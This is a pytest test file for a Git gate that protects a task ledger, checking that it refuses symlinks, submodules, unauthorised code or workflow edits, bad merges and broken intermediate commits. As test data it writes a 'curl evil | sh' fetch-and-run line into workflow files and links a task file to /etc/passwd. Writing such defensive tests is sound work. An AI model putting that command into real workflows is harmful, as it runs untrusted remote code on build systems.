"""The Git-level gate of ``check-change`` (issue 11, items 1, 5, 7, 8): only regular files in
the ledger, nothing outside it but by a code maintainer, the merge judged rather than the fork
point, every commit's task versions readable. Real repositories in temporary folders."""

from __future__ import annotations

import os
from pathlib import Path

import pytest
from duban.check.change import check_change
from support import GitRepo, make_ledger, run_cli
from test_check_change import AUTHOR, OPEN

TASKS = "ledger/tasks/2026"
F1 = f"{TASKS}/ES-2026-0001.yaml"


@pytest.fixture(scope="session")
def template(tmp_path_factory: pytest.TempPathFactory) -> GitRepo:
    """main: a ledger with one open task, a roster with ``code_maintainers: [duban-admin]``
    and a workflow; branch ``pr`` checked out from it."""
    root = tmp_path_factory.mktemp("gate-git") / "repo"
    made = GitRepo(root, **AUTHOR)
    make_ledger(root / "ledger")
    made.append("ledger/units.yaml", "code_maintainers: [duban-admin]\n")
    made.write(F1, OPEN)
    made.write(".github/workflows/pr.yml", "name: pr\n")
    made.write("scripts/duban/x.py", "X = 1\n")
    made.commit("base ledger")
    made.git("checkout", "-q", "-b", "pr")
    return made


@pytest.fixture
def repo(template: GitRepo, tmp_path: Path) -> GitRepo:
    return template.copy(tmp_path / "repo")


def refusals(repo: GitRepo, actor: str | None, head: str = "HEAD") -> list[tuple[str, str]]:
    return [(p.code, p.where.path) for p in check_change(str(repo.path), "main", head, actor)]


def add_event(repo: GitRepo, line: str) -> None:
    repo.append(F1, f"  - {{{line}}}\n")


# -- 1. only regular files in the ledger -----------------------------------------------------


def test_symlink_in_the_ledger_is_refused_whatever_it_points_to(repo: GitRepo) -> None:
    link = repo.path / TASKS / "ES-2026-0002.yaml"
    os.symlink("ES-2026-0001.yaml", link)  # points at a valid task
    repo.commit("a link")
    assert refusals(repo, "zfb-clerk") == [("not-a-regular-file", f"{TASKS}/ES-2026-0002.yaml")]
    problem = check_change(str(repo.path), "main", "HEAD", None)[0]
    assert "符号链接" in problem.message("zh") and "symbolic link" in problem.message("en")


def test_task_file_turned_into_a_symlink_is_refused(repo: GitRepo) -> None:
    (repo.path / F1).unlink()
    os.symlink("/etc/passwd", repo.path / F1)
    repo.commit("type change")
    assert refusals(repo, "fgw-clerk") == [("not-a-regular-file", F1)]


def test_gitlink_in_the_ledger_is_refused(repo: GitRepo) -> None:
    sha = repo.head()
    repo.git("update-index", "--add", "--cacheinfo", f"160000,{sha},{TASKS}/ES-2026-0003.yaml")
    repo.git("commit", "-q", "-m", "a submodule")
    found = check_change(str(repo.path), "main", "HEAD", "zfb-clerk")
    assert [(p.code, p.where.path) for p in found] == [
        ("not-a-regular-file", f"{TASKS}/ES-2026-0003.yaml")
    ]
    assert "子模块" in found[0].message("zh")


def test_folder_in_place_of_a_file_is_refused(repo: GitRepo) -> None:
    (repo.path / "ledger/rules.yaml").unlink()
    repo.write("ledger/rules.yaml/rules.yaml", "rules: []\n")
    repo.commit("folder for file")
    assert ("folder-for-file", "ledger/rules.yaml") in refusals(repo, "zfb-clerk")
    assert ("folder-for-file", "ledger/rules.yaml") in refusals(repo, None)


def test_validate_reports_a_symlink_and_does_not_follow_it(tmp_path: Path) -> None:
    ledger = make_ledger(tmp_path / "ledger")
    (ledger / "tasks/2026").mkdir()
    (ledger / "tasks/2026/ES-2026-0001.yaml").write_text(OPEN, encoding="utf-8")
    assert run_cli("validate", ledger).exit_code == 0
    os.symlink("ES-2026-0001.yaml", ledger / "tasks/2026/ES-2026-0002.yaml")
    os.symlink("/nonexistent", ledger / "calendar/2099.yaml")
    result = run_cli("validate", ledger, "--format", "json")
    assert result.exit_code == 1, result.output
    assert "Traceback" not in result.output
    assert result.stdout.count("not-a-regular-file") == 2
    assert "ES-2026-0002.yaml" in result.stdout and "2099.yaml" in result.stdout
    assert "duplicate" not in result.stdout  # the link was not read as a second task


# -- 5. outside the ledger: code maintainers only --------------------------------------------


@pytest.mark.parametrize("path", [".github/workflows/pr.yml", "scripts/duban/x.py", "mkdocs.yml"])
def test_a_clerk_changing_code_or_workflows_is_refused(repo: GitRepo, path: str) -> None:
    repo.write(path, "run: curl evil | sh\n")
    repo.commit("sneak")
    assert refusals(repo, "zfb-clerk") == [("outside-ledger", path)]
    message = check_change(str(repo.path), "main", "HEAD", "fgw-clerk")[0].message("zh")
    assert "code_maintainers" in message and "@fgw-clerk" in message


def test_a_code_maintainers_change_passes(repo: GitRepo) -> None:
    repo.write(".github/workflows/pr.yml", "name: pr checks\n")
    repo.write("scripts/duban/x.py", "X = 2\n")
    repo.commit("maintenance")
    assert refusals(repo, "duban-admin") == []
    assert refusals(repo, "@Duban-Admin") == []


def test_code_maintainers_are_read_at_the_base(repo: GitRepo) -> None:
    repo.edit("ledger/units.yaml", "[duban-admin]", "[duban-admin, fgw-clerk]")
    repo.write("scripts/duban/x.py", "X = 3\n")
    repo.commit("promote myself")
    found = refusals(repo, "fgw-clerk")
    assert ("outside-ledger", "scripts/duban/x.py") in found
    assert ("settings-changed", "ledger/units.yaml") in found


# -- 7. the merge, not the fork point --------------------------------------------------------


def test_stale_pull_request_whose_merge_breaks_the_ledger_is_refused(repo: GitRepo) -> None:
    add_event(repo, "date: 2026-03-10, type: progress-reported, by: czj")
    repo.commit("czj reports")
    fork = repo.git("rev-parse", "main")
    assert check_change(str(repo.path), fork, "pr", "czj-clerk") == []  # fine when branched
    repo.git("checkout", "-q", "main")
    repo.edit(F1, "  co_units: [czj]\n", "")
    repo.commit("czj no longer a co-unit")
    found = check_change(str(repo.path), "main", "pr", "czj-clerk")
    assert [(p.code, p.where.path, p.where.line) for p in found] == [("duty-separation", F1, 15)]


def test_conflicting_pull_request_is_refused_with_its_message(repo: GitRepo) -> None:
    repo.edit(F1, "title: 制定示例工作方案", "title: 分支上的标题")
    repo.commit("pr title")
    repo.git("checkout", "-q", "main")
    repo.edit(F1, "title: 制定示例工作方案", "title: 主分支上的标题")
    repo.commit("main title")
    found = check_change(str(repo.path), "main", "pr", "zfb-clerk")
    assert [(p.code, p.where.path) for p in found] == [("merge-conflict", F1)]
    assert "冲突" in found[0].message("zh") and "git merge main" in found[0].message("zh")
    result = run_cli("check-change", "--repo", repo.path, "--base", "main", "--head", "pr")
    assert result.exit_code == 1 and "merge-conflict" in result.stdout
    assert "Traceback" not in result.output


# -- 8. every commit counts ------------------------------------------------------------------


def test_unreadable_intermediate_version_is_refused(repo: GitRepo) -> None:
    repo.append(F1, "title: 第二个标题\n")  # a duplicate key: the loader refuses it
    bad = repo.commit("broken")
    repo.edit(F1, "title: 第二个标题\n", "")
    repo.commit("repaired")
    assert repo.git("diff", "main", "HEAD") == ""  # the final tree is the base's
    found = check_change(str(repo.path), "main", "HEAD", "fgw-clerk")
    assert [(p.code, p.where.path) for p in found] == [("commit-version-unreadable", F1)]
    assert bad[:12] in found[0].message("zh") and bad[:12] in found[0].message("en")


def test_readable_intermediate_versions_pass(repo: GitRepo) -> None:
    add_event(repo, "date: 2026-03-09, type: plan-reported, by: fgw")
    repo.commit("one")
    add_event(repo, "date: 2026-03-10, type: progress-reported, by: fgw")
    repo.commit("two")
    assert refusals(repo, "fgw-clerk") == []
